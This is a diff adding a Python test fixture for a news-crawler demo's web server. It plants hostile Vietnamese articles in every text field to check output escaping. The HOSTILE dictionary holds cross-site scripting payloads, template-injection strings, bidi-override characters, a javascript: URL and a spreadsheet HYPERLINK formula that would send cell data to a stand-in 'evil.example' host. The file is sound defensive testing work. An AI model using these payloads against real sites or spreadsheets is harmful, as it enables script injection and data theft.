@@ -1,0 +1,100 @@
+"""The demo's articles with a few hostile ones among them, and ``kyket serve`` over them."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
+from datetime import UTC, datetime
+from pathlib import Path
+
+from demo.process import DemoProcess
+from demo.registry import write_registry
+from pipelines.article import VIETNAM, Article, DateProvenance, page_id
+from pipelines.store import Store
+from search import SqliteBackend, update
+
+KYKET = str(Path(sys.executable).with_name("kyket"))
+SITE = "vnpt.demo"
+BIDI = "\u202egnud iôn\u202c \u2066\u200f"
+NOON = datetime(2026, 6, 10, 5, 0, tzinfo=UTC)
+
+HOSTILE = {
+    "script": '<script>document.title="owned"</script> Ký kết',
+    "attribute": '" onmouseover="document.title=\'owned\'" x="',
+    "image": "<img src=x onerror=\"document.title='owned'\"> phối hợp",
+    "template": "{{ 7 * 7 }} {% raw %} ${7*7} phối hợp",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1;"ký kết")',
+    "bidi": f"Ký kết {BIDI} phối hợp",
+    "closing": "</title></textarea></svg><svg onload=alert(1)> ký kết",
+}
+"""By name the title of a hostile article; its text says the same."""
+
+
+def environment(var: Path) -> dict[str, str]:
+    """Of a kyket that works in ``var`` alone."""
+    kept = {name: value for name, value in os.environ.items() if not name.startswith("KYKET_")}
+    return kept | {"KYKET_VAR": str(var), "KYKET_PACKAGE_SITES": "false", "COLUMNS": "200"}
+
+
+def made_var(var: Path) -> Path:
+    """``var`` with both days of the demo crawled, and the hostile articles stored and indexed."""
+    for edition in (1, 2):
+        with DemoProcess(edition, free_ports=True, flood_control=False) as served:
+            sites = [path.stem for path in write_registry(var / "sites", served.ports)]
+            subprocess.run(
+                [KYKET, "run", *sites], env=environment(var), cwd=var, check=True, capture_output=True, timeout=180
+            )
+    with Store.open(f"sqlite:///{var / 'kyket.sqlite'}") as store, SqliteBackend(var / "index.sqlite") as backend:
+        for name, title in HOSTILE.items():
+            one = hostile(name, title)
+            store.save_outcomes([(one.id, one, "crawl")], NOON)
+        edited = replace(hostile("script", HOSTILE["script"]), lead="<b onclick=alert(1)>sửa</b>")
+        store.save_outcomes([(edited.id, edited, "crawl")], NOON)
+        while store.place_due():
+            pass
+        update(backend, store, {})
+    return var
+
+
+def hostile(name: str, text: str, **fields: object) -> Article:
+    """An article with ``text`` wherever a text can be."""
+    url = f"https://{SITE}/hostile-{name}"
+    values: dict[str, object] = {
+        "id": page_id(SITE, url),
+        "url": url,
+        "canonical_url": "javascript:document.title='owned'" if name == "script" else url,
+        "site": SITE,
+        "title": text,
+        "lead": text,
+        "body": (text, f"hostile {name} {text}"),
+        "captions": (text,),
+        "byline": text,
+        "published": datetime(2026, 6, 11, 9, 30, tzinfo=VIETNAM),
+        "published_raw": text,
+        "published_from": DateProvenance("page", "minute"),
+        "modified": None,
+        "language": "vi",
+        "province": "Lâm Đồng",
+        "province_now": "Lâm Đồng",
+        "source_name": text,
+    }
+    return Article(**(values | fields))  # type: ignore[arg-type]
+
+
+@contextmanager
+def serving(var: Path) -> Iterator[str]:
+    """``kyket serve`` over ``var`` on a free port; its address, without a slash at the end."""
+    process = subprocess.Popen(
+        [KYKET, "serve", "--port", "0"], env=environment(var), cwd=var, stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert process.stdout is not None
+        address = process.stdout.readline().split()[0].rstrip("/")
+        yield address
+    finally:
+        process.terminate()
+        process.wait(timeout=20)
